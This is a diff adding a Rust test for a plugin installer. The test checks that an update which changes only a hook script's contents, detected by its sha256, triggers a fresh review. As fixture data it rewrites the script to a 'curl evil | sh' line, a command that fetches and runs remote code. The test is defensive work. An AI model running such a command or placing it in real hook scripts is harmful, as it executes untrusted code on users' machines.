@@ -215,3 +215,26 @@ fn a_marketplace_entry_installs_by_name_and_an_unpinned_repository_is_refused() 
     assert!(marketplace::remove(home.path(), "team").unwrap());
     assert!(!marketplace::copy_of(home.path(), "team").exists());
 }
+
+#[test]
+fn an_update_that_only_changes_a_hook_script_asks_again() {
+    let home = tempfile::tempdir().unwrap();
+    let src = tempfile::tempdir().unwrap();
+    plugin(src.path(), "kit", true);
+    std::fs::write(src.path().join("guard.sh"), "#!/bin/sh\nexit 0\n").unwrap();
+    let plan = planned(home.path(), src.path().to_str().unwrap(), None);
+    assert!(
+        plan.review.runs[0].contains("[guard.sh sha256:"),
+        "{:?}",
+        plan.review.runs
+    );
+    let entry = install::commit(home.path(), plan).unwrap();
+    std::fs::write(src.path().join("guard.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    let update = planned(home.path(), src.path().to_str().unwrap(), None);
+    let grown = update.review.grown_from(&entry.review.runs);
+    assert_eq!(
+        grown.len(),
+        1,
+        "the same command, another script: {grown:?}"
+    );
+}
